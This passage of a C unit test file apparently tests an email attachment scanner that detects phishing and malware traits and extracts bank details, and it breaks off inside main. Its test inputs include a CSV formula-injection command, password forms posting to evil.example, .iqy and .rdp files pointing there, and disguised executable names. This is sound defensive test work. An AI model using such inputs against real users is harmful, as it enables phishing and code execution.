/* What is read from attachments. The samples are the seeds of the fuzz target. */
#include "extract/extract_test_help.h"
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>
#include <glib.h>

static struct extract_ctx *ctx;
#define IBAN "IT60X0542811101000000123456"

/* The seed without its first byte, which chooses a name for the fuzz target. */
static struct str sample(struct arena *a, const char *name)
{
    char path[4096];
    const char *root = getenv("SIGILLO_SOURCE");
    snprintf(path, sizeof path, "%s/fuzz/extract_blob/%s", root ? root : ".", name);
    FILE *f = fopen(path, "rb");
    if (!f)
        fail_msg("cannot read %s", path);
    char *p = arena_alloc(a, 65536);
    size_t n = fread(p, 1, 65536, f);
    fclose(f);
    return str_n(p + 1, n - 1);
}

static void read_as(const char *name, struct str bytes, struct extract_result *r)
{
    struct buf b;
    buf_init(&b, 8u << 20);
    extract_mail_around(&b, name, bytes, "In allegato.");
    extract_run(ctx, buf_str(&b), r);
    buf_free(&b);
    assert_int_equal(r->code, 0);
    assert_true(r->in.n_attachments > 0);
}

static bool has_link(const struct extract_result *r, enum facts_link_kind kind, const char *url)
{
    for (size_t i = 0; i < r->in.n_links; i++)
        if (r->in.links[i].kind == kind && str_eq(r->in.links[i].url, str_c(url)))
            return true;
    return false;
}

/* A table: the sample, the name it has in the mail, and what must be found. */
static void test_samples(void **state)
{
    (void)state;
    static const struct {
        const char *seed, *name, *kind;
        uint32_t flags; /* all of these */
        enum facts_where where;
        const char *iban, *link;
        enum facts_link_kind link_kind;
    } cases[] = {
        {"pdf-text-link-script", "f.pdf", "pdf", ATT_PDF_ACTIVE | ATT_INVOICE, WHERE_PDF, IBAN,
         "https://portale.example/paga", LINK_PDF},
        {"pdf-changed", "f.pdf", "pdf", ATT_PDF_CHANGED, WHERE_PDF, IBAN, NULL, 0},
        {"png-qr-epc", "pay.png", "png", 0, WHERE_QR, IBAN, NULL, 0},
        {"png-qr-address", "x.png", "png", 0, 0, NULL, "https://portale.example/login?x=1", LINK_QR},
        {"png-qr-swiss", "x.png", "png", ATT_INVOICE, WHERE_QR, "CH9300762011623852957", NULL, 0},
        {"fatturapa", "f.xml", "fatturapa", ATT_INVOICE, WHERE_XML, IBAN, NULL, 0},
        {"cii", "f.xml", "factur-x", ATT_INVOICE, WHERE_XML, "DE89370400440532013000", NULL, 0},
        {"ubl", "f.xml", "ubl", ATT_INVOICE, WHERE_XML, "GB29NWBK60161331926819", NULL, 0},
        {"p7m-ber", "f.xml.p7m", "p7m", 0, WHERE_XML, IBAN, NULL, 0},
        {"ics", "i.ics", "ics", ATT_CALENDAR, WHERE_ATTACHMENT, IBAN, "https://evil.example/meet?x=1", LINK_CALENDAR},
        {"eml", "m.eml", "eml", ATT_MESSAGE, WHERE_ATTACHMENT, IBAN, "https://portale.example/", LINK_HREF},
        {"zip-program", "o.zip", "zip", ATT_PROGRAM | ATT_DOUBLE_EXTENSION | ATT_NESTED, WHERE_ATTACHMENT, IBAN, NULL,
         0},
        {"docx", "o.docm", "docx", ATT_MACRO | ATT_REMOTE, WHERE_OFFICE, IBAN, "https://evil.example/a?x=1&y=2",
         LINK_OFFICE},
        {"odt", "o.odt", "odf", 0, WHERE_OFFICE, IBAN, "https://portale.example/x", LINK_OFFICE},
        {"tar-gz", "o.tar.gz", "gzip", 0, WHERE_ATTACHMENT, IBAN, NULL, 0},
        {"msg", "m.msg", "msg", ATT_MESSAGE, WHERE_ATTACHMENT, IBAN, "https://portale.example/msg", LINK_HTML},
        {"rtf-object", "o.rtf", "rtf", ATT_MACRO, WHERE_OFFICE, IBAN, NULL, 0},
        {"html-smuggling", "o.html", "html", ATT_SMUGGLING | ATT_PASSWORD_FORM, 0, NULL, "https://portale.example/p",
         LINK_FORM},
        {"csv", "o.csv", "csv", 0, WHERE_ATTACHMENT, IBAN, NULL, 0},
        {"onenote-program", "o.one", "onenote", ATT_PROGRAM, 0, NULL, NULL, 0},
        {"tnef", "winmail.dat", "tnef", 0, WHERE_OFFICE, IBAN, "https://portale.example/tnef", LINK_OFFICE},
        {"tnef-packed", "winmail.dat", "tnef", 0, WHERE_OFFICE, IBAN, NULL, 0},
        {"7z", "o.7z", "7z", ATT_PROGRAM | ATT_DOUBLE_EXTENSION, WHERE_ATTACHMENT, IBAN, NULL, 0},
        {"rar5", "o.rar", "rar", ATT_PROGRAM | ATT_DOUBLE_EXTENSION, WHERE_ATTACHMENT, IBAN, NULL, 0},
        {"xls-macro", "o.xls", "xls", ATT_MACRO, WHERE_OFFICE, IBAN, NULL, 0},
    };
    for (size_t i = 0; i < N_ELEMENTS(cases); i++) {
        struct extract_result r;
        struct arena a;
        arena_init(&a, ARENA_NO_LIMIT);
        read_as(cases[i].name, sample(&a, cases[i].seed), &r);
        const struct facts_attachment *f = &r.in.attachments[0];
        const struct facts_payment *p = cases[i].iban ? extract_coordinate(&r, COORD_IBAN, cases[i].iban) : NULL;
        if (!str_eq(f->kind, str_c(cases[i].kind)) || (f->flags & cases[i].flags) != cases[i].flags)
            fail_msg("%s: kind %.*s flags %x", cases[i].seed, STRF(f->kind), f->flags);
        if (cases[i].iban && (!p || p->where != cases[i].where))
            fail_msg("%s: account %s", cases[i].seed, p ? "elsewhere" : "not found");
        if (cases[i].link && !has_link(&r, cases[i].link_kind, cases[i].link))
            fail_msg("%s: link not found", cases[i].seed);
        arena_free(&r.arena);
        arena_free(&a);
    }
}

static void test_fields(void **state)
{
    (void)state;
    struct extract_result r;
    struct arena a;
    arena_init(&a, ARENA_NO_LIMIT);
    read_as("f.xml", sample(&a, "fatturapa"), &r);
    assert_true(str_eq(r.in.attachments[0].number, STR("12/2026")));
    assert_true(str_eq(extract_coordinate(&r, COORD_IBAN, IBAN)->holder, STR("Rossi Marmi")));
    assert_non_null(extract_coordinate(&r, COORD_BIC, "BLOPIT22"));
    arena_free(&r.arena);
    read_as("q.png", sample(&a, "png-qr-epc"), &r);
    assert_true(str_eq(extract_coordinate(&r, COORD_IBAN, IBAN)->holder, STR("Rossi Marmi srl")));
    arena_free(&r.arena);
    read_as("f.pdf", sample(&a, "pdf-text-link-script"), &r);
    const struct facts_attachment *f = &r.in.attachments[0];
    assert_true(str_eq(f->tool, STR("Gestionale 1.0")) && str_eq(f->author, STR("Anna Rossi")) &&
                str_eq(f->number, STR("12/2026")));
    assert_int_equal(f->changed_ms - f->made_ms, 2 * 3600 * 1000);
    assert_int_equal(f->pages, 1);
    arena_free(&r.arena);
    read_as("m.eml", sample(&a, "eml"), &r);
    assert_true(str_eq(r.in.attachments[0].author, STR("anna@azienda.example")));
    arena_free(&r.arena);
    read_as("o.docm", sample(&a, "docx"), &r);
    assert_true(str_eq(r.in.attachments[0].author, STR("Anna")));
    assert_int_equal(r.in.attachments[0].made_ms, 1782900000000);
    arena_free(&r.arena);
    arena_free(&a);
}

static void test_names(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        struct str bytes;
        uint32_t flags; /* exactly */
    } cases[] = {
        {"fattura.txt", {"x", 1}, 0},
        {"fattura.pdf.exe", {"x", 1}, ATT_PROGRAM | ATT_DOUBLE_EXTENSION},
        {"fattura.pdf.js.", {"x", 1}, ATT_PROGRAM | ATT_DOUBLE_EXTENSION | ATT_DIRECTION},
        {"fattura.scr", {"x", 1}, ATT_PROGRAM},
        {"fattura.pdf.lnk", {"x", 1}, ATT_SHORTCUT | ATT_DOUBLE_EXTENSION},
        {"fattura.iso", {"x", 1}, ATT_DISK_IMAGE},
        {"fattura            .exe", {"x", 1}, ATT_PROGRAM | ATT_DIRECTION},
        {"fattura\xE2\x80\xAE"
         "fdp.exe",
         {"x", 1},
         ATT_PROGRAM | ATT_DIRECTION},
        {"foto.jpg",
         {"\x7F"
          "ELFxxxx",
          8},
         ATT_PROGRAM},
        {"foto.jpg", {"%PDF-1.4 x", 10}, ATT_TYPE_DIFFERS | ATT_UNREADABLE},
        {"foto.png", {"\x89PNG\r\n\x1A\n....PK\x03\x04....PK\x05\x06....", 28}, ATT_POLYGLOT | ATT_UNREADABLE},
        {"foto.gif", {"GIF89a..%PDF-1.4", 16}, ATT_POLYGLOT},
        {"doc.pdf", {"<html><body>x</body></html>", 27}, ATT_TYPE_DIFFERS},
        {"", {"x", 1}, 0},
    };
    for (size_t i = 0; i < N_ELEMENTS(cases); i++) {
        struct extract_result r;
        read_as(cases[i].name, cases[i].bytes, &r);
        if (r.in.attachments[0].flags != cases[i].flags)
            fail_msg("%s (case %zu): flags %x, want %x", cases[i].name, i, r.in.attachments[0].flags, cases[i].flags);
        arena_free(&r.arena);
    }
}

/* Files in a winmail.dat are attachments, with the names that Outlook shows; a message in it is another one. */
static void test_tnef(void **state)
{
    (void)state;
    struct extract_result r;
    struct arena a;
    arena_init(&a, ARENA_NO_LIMIT);
    struct str bytes = sample(&a, "tnef");
    read_as("winmail.dat", bytes, &r);
    assert_int_equal(r.in.n_attachments, 3);
    const struct facts_attachment *f = r.in.attachments;
    assert_true(r.in.flags & FACTS_TNEF);
    assert_true(str_eq(f[1].name, STR("winmail.dat/conto \xC3\xA8 pronto.pdf.exe")));
    assert_true((f[1].flags & (ATT_PROGRAM | ATT_DOUBLE_EXTENSION)) == (ATT_PROGRAM | ATT_DOUBLE_EXTENSION));
    assert_true(str_eq(f[2].name, STR("winmail.dat/msg")) && str_eq(f[2].kind, STR("tnef")));
    assert_true(str_find(r.in.attached, STR("testo interno"), 0) >= 0);
    assert_true(str_find(r.in.attached, STR("niente"), 0) < 0);
    arena_free(&r.arena);
    for (size_t n = 1; n < bytes.n; n++) { /* cut anywhere: said to be damaged, or the rest was nothing */
        char *copy = malloc(n);
        memcpy(copy, bytes.p, n);
        read_as("winmail.dat", str_n(copy, n), &r);
        arena_free(&r.arena);
        free(copy);
    }
    read_as("winmail.dat", str_upto(bytes, bytes.n - 30), &r);
    assert_true(r.in.flags & FACTS_UNREADABLE);
    arena_free(&r.arena);
    arena_free(&a);
}

/* What is put before or around a thing so that it is taken for another: its own program looks past it, so must we. */
static void test_looked_past(void **state)
{
    (void)state;
    static const char page[] = "<html><form action='https://evil.example/p'><input type=password></form></html>";
    static const struct {
        const char *name, *front;
        size_t n;
        const char *kind;
        uint32_t flags;
    } pages[] = {
        {"p.html", "ID3", 3, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
        {"p.html", "RIFF", 4, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
        {"p.htm", "<!--ftyp-->", 11, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
        {"p.html", "PK\3\4", 4, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
        {"p.html", "BM", 2, "html", ATT_PASSWORD_FORM},
        {"p.xhtml", "<?xml version='1.0'?>", 21, "html", ATT_PASSWORD_FORM},
    };
    struct extract_result r;
    struct arena a;
    arena_init(&a, ARENA_NO_LIMIT);
    for (size_t i = 0; i < N_ELEMENTS(pages); i++) {
        char bytes[400];
        memcpy(bytes, pages[i].front, pages[i].n);
        memcpy(bytes + pages[i].n, page, sizeof page - 1);
        read_as(pages[i].name, str_n(bytes, pages[i].n + sizeof page - 1), &r);
        const struct facts_attachment *f = &r.in.attachments[0];
        if (!str_eq(f->kind, str_c(pages[i].kind)) || (f->flags & pages[i].flags) != pages[i].flags)
            fail_msg("page %zu: %.*s %x", i, STRF(f->kind), f->flags);
        arena_free(&r.arena);
    }
    static const struct {
        const char *seed, *name;
        uint32_t flags;
    } packs[] = {
        {"zip-behind-text", "o.zip", ATT_PROGRAM | ATT_POLYGLOT},
        {"zip-behind-bytes", "o.zip", ATT_PROGRAM | ATT_POLYGLOT},
        {"zip-like-document", "o.zip", ATT_PROGRAM},
        {"zip-like-document", "o.docx", ATT_PROGRAM},
        {"tar-old", "o.tar", ATT_PROGRAM},
    };
    for (size_t i = 0; i < N_ELEMENTS(packs); i++) {
        read_as(packs[i].name, sample(&a, packs[i].seed), &r);
        if ((r.in.attachments[0].flags & packs[i].flags) != packs[i].flags)
            fail_msg("%s as %s: %x", packs[i].seed, packs[i].name, r.in.attachments[0].flags);
        arena_free(&r.arena);
    }
    static const struct {
        const char *name, *text;
        uint32_t flags;
    } texts[] = {
        {"o.csv", "a;=cmd|'/c calc'!A1\n", ATT_MACRO},
        {"o.csv", "a-b|c|wow!\n-5|'x'\n", 0},
        {"o.iqy", "WEB\n1\nhttps://evil.example/q\n", ATT_PROGRAM},
        {"o.rdp", "full address:s:evil.example\n", ATT_SHORTCUT},
        {"o.arj", "\x60\xEA packed", ATT_UNREADABLE},
    };
    for (size_t i = 0; i < N_ELEMENTS(texts); i++) {
        read_as(texts[i].name, str_c(texts[i].text), &r);
        if (r.in.attachments[0].flags != texts[i].flags)
            fail_msg("%s %zu: %x", texts[i].name, i, r.in.attachments[0].flags);
        arena_free(&r.arena);
    }
    arena_free(&a);
}

/* One code as pictures of every format, and cut anywhere. */
static void test_pictures(void **state)
{
    (void)state;
    static const struct {
        const char *seed, *name, *kind;
    } cases[] = {
        {"gif-qr", "x.gif", "gif"},        {"gif-qr-moving", "x.gif", "gif"}, {"bmp-qr-1", "x.bmp", "bmp"},
        {"bmp-qr-4-core", "x.bmp", "bmp"}, {"bmp-qr-8-runs", "x.bmp", "bmp"}, {"bmp-qr-16-fields", "x.bmp", "bmp"},
        {"bmp-qr-24", "x.bmp", "bmp"},     {"webp-qr", "x.webp", "webp"},     {"webp-qr-moving", "x.webp", "webp"},
    };
    for (size_t i = 0; i < N_ELEMENTS(cases); i++) {
        struct extract_result r;
        struct arena a;
        arena_init(&a, ARENA_NO_LIMIT);
        struct str bytes = sample(&a, cases[i].seed);
        read_as(cases[i].name, bytes, &r);
        const struct facts_attachment *f = &r.in.attachments[0];
        if (!str_eq(f->kind, str_c(cases[i].kind)) || (f->flags & (ATT_TYPE_DIFFERS | ATT_UNREADABLE)) ||
            !has_link(&r, LINK_QR, "https://portale.example/login?x=1"))
            fail_msg("%s: %.*s %x", cases[i].seed, STRF(f->kind), f->flags);
        arena_free(&r.arena);
        for (size_t n = 1; n < bytes.n; n += n < 200 ? 1 : 997) {
            char *copy = malloc(n);
            memcpy(copy, bytes.p, n);
            read_as(cases[i].name, str_n(copy, n), &r);
            arena_free(&r.arena);
            free(copy);
        }
        arena_free(&a);
    }
}

/* What stands behind many harmless things is seen all the same, and pages in pages to a depth. */
static void test_crowds(void **state)
{
    (void)state;
    struct extract_result r;
    struct buf b;
    buf_init(&b, 8u << 20);
    buf_addz(&b, "From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n");
    for (int i = 0; i < 250; i++)
        buf_printf(&b, "--b\r\nContent-Type: text/x-log; name=a%d.txt\r\n\r\na\r\n", i);
    buf_addz(&b, "--b\r\nContent-Type: text/x-log; name=x.js\r\n\r\nvar\r\n--b--\r\n");
    extract_run(ctx, buf_str(&b), &r);
    assert_true(r.in.attachments[FACTS_ATTACHMENTS_MAX - 1].flags & ATT_PROGRAM);
    arena_free(&r.arena);
    buf_clear(&b);
    buf_addz(&b, "From: a@b.example\r\nContent-Type: text/html\r\n\r\n");
    for (int i = 0; i < 600; i++)
        buf_printf(&b, "<a href='https://ok.example/%d'>a</a>\r\n", i);
    buf_addz(&b, "<a href='https://evil.example/z'>b</a>");
    extract_run(ctx, buf_str(&b), &r);
    assert_true(has_link(&r, LINK_HREF, "https://evil.example/z"));
    arena_free(&r.arena);
    read_as("p.html", STR("<iframe srcdoc=\"<form action='https://evil.example/p'><input type=password></form>\">"),
            &r);
    assert_true(r.in.n_attachments == 2 && r.in.attachments[1].flags & ATT_PASSWORD_FORM);
    arena_free(&r.arena);
    buf_clear(&b);
    char page[2][20000] = {"<p>fondo"};
    for (int i = 0; i < 6; i++) { /* each in quotes of the next */
        char *to = page[(i + 1) % 2];
        size_t n = (size_t)snprintf(to, sizeof page[0], "<iframe srcdoc=\"");
        for (const char *p = page[i % 2]; *p; p++)
            n += (size_t)snprintf(to + n, sizeof page[0] - n, "%s",
                                  *p == '"'   ? "&quot;"
                                  : *p == '&' ? "&amp;"
                                              : (char[2]){*p});
        snprintf(to + n, sizeof page[0] - n, "\"></iframe>");
    }
    read_as("p.html", str_c(page[0]), &r);
    assert_int_equal(r.in.n_attachments, 4);
    assert_true(r.in.flags & FACTS_UNREADABLE);
    arena_free(&r.arena);
    buf_clear(&b);
    buf_addz(&b, "From: a@b.example\r\nContent-Type: text/html\r\n\r\n<p>Ciao");
    for (int i = 0; i < 5000; i++)
        buf_printf(&b, "<!--%999d-->\r\n", i);
    buf_addz(&b, "<a href='https://evil.example/z'>b</a>");
    extract_run(ctx, buf_str(&b), &r);
    assert_true(r.in.flags & FACTS_UNREADABLE);
    arena_free(&r.arena);
    buf_free(&b);
}

/* A picture written into the page itself has no row. */
static void test_picture_in_page(void **state)
{
    (void)state;
    static const char *const seeds[] = {"gif-qr", "gif-qr-moving", "bmp-qr-1", "webp-qr", "png-qr-address"};
    for (size_t i = 0; i < N_ELEMENTS(seeds); i++) {
        struct extract_result r;
        struct arena a;
        struct buf b;
        arena_init(&a, ARENA_NO_LIMIT);
        buf_init(&b, 1u << 20);
        struct str bytes = sample(&a, seeds[i]);
        char *text = g_base64_encode((const guchar *)bytes.p, bytes.n);
        buf_printf(&b,
                   "From: a@b.example\r\nContent-Type: text/html\r\n\r\n<p>Ciao <img src=\"data:image/x;base64,%s\">",
                   text);
        extract_run(ctx, buf_str(&b), &r);
        assert_int_equal(r.code, 0);
        if (!has_link(&r, LINK_QR, "https://portale.example/login?x=1"))
            fail_msg("%s", seeds[i]);
        g_free(text);
        arena_free(&r.arena);
        arena_free(&a);
        buf_free(&b);
    }
}

/* A size beyond the limit is refused by the head and said so; letters that a picture begins with make none of a text. */
static void test_picture_limits(void **state)
{
    (void)state;
    static const char huge_gif[] = "GIF89a\x40\x9C\x40\x9C\0\0\0\x2C\0\0\0\0\x40\x9C\x40\x9C\0\2\1\0\0;";
    static const char huge_bmp[] = "BM\0\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x40\x9C\0\0\x40\x9C\0\0\1\0\x18\0\0\0\0\0"
                                   "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
    static const char text[] = "BMW: bonifico su " IBAN " entro domani, grazie";
    struct extract_result r;
    read_as("x.gif", str_n(huge_gif, sizeof huge_gif - 1), &r);
    assert_true(r.in.attachments[0].flags & ATT_UNREADABLE);
    arena_free(&r.arena);
    read_as("x.bmp", str_n(huge_bmp, sizeof huge_bmp - 1), &r);
    assert_true(r.in.attachments[0].flags & ATT_UNREADABLE);
    arena_free(&r.arena);
    read_as("x.txt", str_n(text, sizeof text - 1), &r);
    assert_non_null(extract_coordinate(&r, COORD_IBAN, IBAN));
    arena_free(&r.arena);
}

/* Files in an Outlook message, and in the one attached to it, are read as if they came with the mail. */
static void test_msg(void **state)
{
    (void)state;
    static const struct {
        const char *name, *kind;
        uint32_t flags;
    } rows[] = {
        {"o.msg", "msg", ATT_MESSAGE},
        {"o.msg/ordine.zip", "zip", ATT_PROGRAM | ATT_IN_ARCHIVE},
        {"o.msg/conto \xC3\xA8 pronto.pdf.exe", "exe", ATT_PROGRAM | ATT_DOUBLE_EXTENSION},
        {"o.msg/Inoltro", "msg", ATT_MESSAGE},
        {"o.msg/Inoltro/leggimi.js", "js", ATT_PROGRAM},
        {"o.msg/lungo.csv", "csv", ATT_IN_ARCHIVE},
        {"o.msg/senza.pdf", "", 0},
    };
    struct extract_result r;
    struct arena a;
    arena_init(&a, ARENA_NO_LIMIT);
    struct str bytes = sample(&a, "msg");
    read_as("o.msg", bytes, &r);
    for (size_t i = 0; i < N_ELEMENTS(rows); i++) {
        const struct facts_attachment *f = NULL;
        for (size_t k = 0; k < r.in.n_attachments; k++)
            f = str_eq(r.in.attachments[k].name, str_c(rows[i].name)) ? &r.in.attachments[k] : f;
        if (!f || !str_eq(f->kind, str_c(rows[i].kind)) || (f->flags & rows[i].flags) != rows[i].flags)
            fail_msg("%s: %.*s %x", rows[i].name, f ? (int)f->kind.n : 0, f ? f->kind.p : "", f ? f->flags : 0);
    }
    assert_true(str_eq(r.in.attachments[0].author, STR("anna@rossimarmi.example")));
    assert_true(str_find(r.in.attached, STR("Caff\xC3\xA8"), 0) >= 0);
    assert_true(has_link(&r, LINK_HTML, "https://portale.example/dentro"));
    assert_int_equal(r.in.flags & (FACTS_UNREADABLE | FACTS_BAD_CHARSET), 0);
    arena_free(&r.arena);
    for (size_t n = 1; n < bytes.n; n += 13) { /* cut anywhere */
        char *copy = malloc(n);
        memcpy(copy, bytes.p, n);
        read_as("o.msg", str_n(copy, n), &r);
        arena_free(&r.arena);
        free(copy);
    }
    static const char *const hostile[] = {"msg-deep", "msg-loop"};
    for (size_t i = 0; i < N_ELEMENTS(hostile); i++) {
        read_as("o.msg", sample(&a, hostile[i]), &r);
        assert_true(r.in.flags & FACTS_UNREADABLE);
        arena_free(&r.arena);
    }
    arena_free(&a);
}

/* Whatever encoding the invoice is in, and when it is no valid XML, its account is found. */
static void test_encodings_of_invoices(void **state)
{
    (void)state;
    static const struct {
        const char *head, *name, *holder, *kind;
        uint32_t flags;
    } cases[] = {
        {"<?xml version='1.0' encoding='windows-1252'?>", "Caff\xE8", "Caff\xC3\xA8", "fatturapa", ATT_INVOICE},
        {"<?xml version=\"1.0\" encoding=\"ISO-8859-15\" standalone='yes'?>", "\xA4", "\xE2\x82\xAC", "fatturapa",
         ATT_INVOICE},
        {"<?xml version='1.0' encoding='x-nonsense'?>", "Caffe", "Caffe", "fatturapa", ATT_INVOICE},
        {"<?xml version='1.0'?><<&& ", "Caffe", NULL, "xml", 0},
        {"<?xml version='1.0'?><FatturaElettronica><<&& ", "Caffe", NULL, "fatturapa", ATT_INVOICE | ATT_UNREADABLE},
        {"\xEF\xBB\xBF<?xml version='1.0'?>", "Caffe", "Caffe", "fatturapa", ATT_INVOICE},
    };
    for (size_t i = 0; i < N_ELEMENTS(cases); i++) {
        struct extract_result r;
        char xml[1000];
        int n = snprintf(xml, sizeof xml,
                         "%s<FatturaElettronica><DatiPagamento><DettaglioPagamento><Beneficiario>%s</Beneficiario>"
                         "<IBAN>" IBAN "</IBAN></DettaglioPagamento></DatiPagamento></FatturaElettronica>",
                         cases[i].head, cases[i].name);
        read_as("f.xml", str_n(xml, (size_t)n), &r);
        const struct facts_payment *p = extract_coordinate(&r, COORD_IBAN, IBAN);
        const struct facts_attachment *a = &r.in.attachments[0];
        if (!p || p->where != WHERE_XML || !str_eq(a->kind, str_c(cases[i].kind)) || a->flags != cases[i].flags ||
            (cases[i].holder && !str_eq(p->holder, str_c(cases[i].holder))))
            fail_msg("case %zu: %.*s %x", i, STRF(a->kind), a->flags);
        arena_free(&r.arena);
    }
}

/* Locked PDF, revisions 2, 3 and 6: opened by the word beside "password" in the text, and not opened by another. */
static void test_locked_pdf(void **state)
{
    (void)state;
    static const char *const seeds[] = {"pdf-locked-r2", "pdf-locked-r3", "pdf-locked-r6"};
    static const char *const texts[] = {"La password: abc123", "La password: sbagliata", "In allegato."};
    for (size_t i = 0; i < N_ELEMENTS(seeds); i++)
        for (size_t k = 0; k < N_ELEMENTS(texts); k++) {
            struct extract_result r;
            struct arena a;
            struct buf b;
            arena_init(&a, ARENA_NO_LIMIT);
            buf_init(&b, 1u << 20);
            extract_mail_around(&b, "f.pdf", sample(&a, seeds[i]), texts[k]);
            extract_run(ctx, buf_str(&b), &r);
            assert_int_equal(r.code, 0);
            assert_true(r.in.attachments[0].flags & ATT_ENCRYPTED);
            assert_int_equal((r.in.attachments[0].flags & ATT_OPENED) != 0, k == 0);
            if ((extract_coordinate(&r, COORD_IBAN, IBAN) != NULL) != (k == 0))
                fail_msg("%s with \"%s\"", seeds[i], texts[k]);
            arena_free(&r.arena);
            arena_free(&a);
            buf_free(&b);
        }
}

/* Opened means all of it: one file inside that keeps its secret is as bad as none opened. */
static void test_locked_archive(void **state)
{
    (void)state;
    static const struct {
        const char *seed, *text;
        uint32_t flags;
        bool iban;
    } cases[] = {
        {"zip-locked", "La password: abc123", ATT_ENCRYPTED | ATT_OPENED, true},
        {"zip-locked", "La password: sbagliata", ATT_ENCRYPTED, false},
        {"zip-locked", "In allegato.", ATT_ENCRYPTED, false},
        {"zip-locked-half", "La password: abc123", ATT_ENCRYPTED, true},
        {"zip-locked-half", "La password: abc123, poi la password un-altra", ATT_ENCRYPTED | ATT_OPENED, true},
    };
    for (size_t i = 0; i < N_ELEMENTS(cases); i++) {
        struct extract_result r;
        struct arena a;
        struct buf b;
        arena_init(&a, ARENA_NO_LIMIT);
        buf_init(&b, 1u << 20);
        extract_mail_around(&b, "f.zip", sample(&a, cases[i].seed), cases[i].text);
        extract_run(ctx, buf_str(&b), &r);
        assert_int_equal(r.code, 0);
        if (r.in.attachments[0].flags != cases[i].flags ||
            (extract_coordinate(&r, COORD_IBAN, IBAN) != NULL) != cases[i].iban)
            fail_msg("case %zu: %x", i, r.in.attachments[0].flags);
        arena_free(&r.arena);
        arena_free(&a);
        buf_free(&b);
    }
}

/* A PDF that only forbids changes is no locked one; its commands are seen although they are enciphered and packed. */
static void test_permissions(void **state)
{
    (void)state;
    struct extract_result r;
    struct arena a;
    arena_init(&a, ARENA_NO_LIMIT);
    read_as("f.pdf", sample(&a, "pdf-locked-for-changes"), &r);
    assert_int_equal(r.in.attachments[0].flags & (ATT_ENCRYPTED | ATT_OPENED | ATT_UNREADABLE), 0);
    assert_true(r.in.attachments[0].flags & ATT_PDF_ACTIVE);
    assert_non_null(extract_coordinate(&r, COORD_IBAN, IBAN));
    arena_free(&r.arena);
    arena_free(&a);
}

/* UTF-16 by its mark, whatever the label says: browsers and editors read it so. */
static void test_wide(void **state)
{
    (void)state;
    static const char text[] = "<html><script>atob('x');document.write('y')</script><p>Bonifico su " IBAN "</p></html>";
    for (int big = 0; big <= 1; big++) {
        struct extract_result r;
        char wide[2 * sizeof text];
        memcpy(wide, big ? "\xFE\xFF" : "\xFF\xFE", 2);
        for (size_t i = 0; i + 1 < sizeof text; i++) {
            wide[2 + 2 * i] = big ? 0 : text[i];
            wide[3 + 2 * i] = big ? text[i] : 0;
        }
        read_as("avviso.dat", str_n(wide, 2 * sizeof text), &r);
        assert_true(str_eq(r.in.attachments[0].kind, STR("html")));
        assert_non_null(extract_coordinate(&r, COORD_IBAN, IBAN));
        assert_true(r.in.attachments[0].flags & ATT_SMUGGLING);
        arena_free(&r.arena);
    }
}

/* A picture that says it is huge is refused before it is unpacked, and said to be unread. */
static void test_huge(void **state)
{
    (void)state;
    static const char head[] = "\x89PNG\r\n\x1A\n\0\0\0\x0DIHDR\0\1\0\0\0\1\0\0\x08\6\0\0\0....";
    struct extract_result r;
    read_as("x.png", str_n(head, sizeof head - 1), &r);
    assert_true(r.in.attachments[0].flags & ATT_UNREADABLE);
    assert_true(r.in.flags & FACTS_UNREADABLE);
    arena_free(&r.arena);
}

static void test_mime(void **state)
{
    (void)state;
    struct extract_result r;
    extract_run(ctx,
                STR("Content-Type: multipart/related; boundary=A\r\n\r\n--A\r\nContent-Type: text/html\r\n\r\n<img "
                    "src=cid:x>\r\n--A\r\n"
                    "Content-Type: image/png\r\nContent-ID: <x>\r\n\r\nx\r\n--A--\r\n"),
                &r);
    assert_int_equal(r.in.n_attachments, 1);
    assert_true(r.in.attachments[0].flags & ATT_INLINE);
    assert_false(r.in.has_attachment);
    arena_free(&r.arena);
    extract_run(ctx,
                STR("Content-Type: multipart/mixed; boundary=A\r\n\r\n--A\r\n\r\nciao\r\n--A\r\nContent-Type: "
                    "message/rfc822\r\n\r\n"
                    "From: anna@azienda.example\r\nSubject: x\r\n\r\nIBAN " IBAN "\r\n--A--\r\n"),
                &r);
    assert_true(str_eq(r.in.text, STR("ciao")));
    assert_true(str_find(r.in.attached, STR(IBAN), 0) >= 0);
    assert_true(r.in.attachments[0].flags & ATT_MESSAGE);
    assert_true(str_eq(r.in.attachments[0].author, STR("anna@azienda.example")));
    arena_free(&r.arena);
    extract_run(
        ctx,
        STR("Content-Type: multipart/mixed; boundary=A\r\n\r\n--A\r\n\r\nbusta\r\n--A\r\nContent-Type: message/rfc822; "
            "name=postacert.eml\r\n\r\nFrom: anna@azienda.example\r\n\r\nvero messaggio " IBAN "\r\n--A--\r\n"),
        &r);
    assert_true(str_find(r.in.text, STR("vero messaggio"), 0) >= 0);
    arena_free(&r.arena);
}

static void test_uuencoded(void **state)
{
    (void)state;
    struct extract_result r;
    extract_run(ctx,
                STR("Subject: x\r\n\r\nciao\r\nbegin 644 "
                    "conto.txt\r\n<24)!3B!)5#8P6#`U-#(X,3$Q,#$P,#`P,#`Q,@``\r\n%,S0U-@H`\r\n`\r\n"
                    "end\r\nbegin 644 x\r\n\r\nbegin\r\n"),
                &r);
    assert_int_equal(r.in.n_attachments, 1);
    assert_true(str_eq(r.in.attachments[0].name, STR("conto.txt")));
    assert_non_null(extract_coordinate(&r, COORD_IBAN, IBAN));
    arena_free(&r.arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_samples),
                                       cmocka_unit_test(test_fields),
                                       cmocka_unit_test(test_names),
                                       cmocka_unit_test(test_huge),
                                       cmocka_unit_test(test_mime),
                                       cmocka_unit_test(test_uuencoded),
                                       cmocka_unit_test(test_tnef),
                                       cmocka_unit_test(test_encodings_of_invoices),
                                       cmocka_unit_test(test_wide),
                                       cmocka_unit_test(test_locked_pdf),
                                       cmocka_unit_test(test_locked_archive),
                                       cmocka_unit_test(test_permissions),
                                       cmocka_unit_test(test_msg),
                                       cmocka_unit_test(test_pictures),
                                       cmocka_unit_test(test_picture_limits),
                                       cmocka_unit_test(test_looked_past),
                                       cmocka_unit_test(test_picture_in_page),
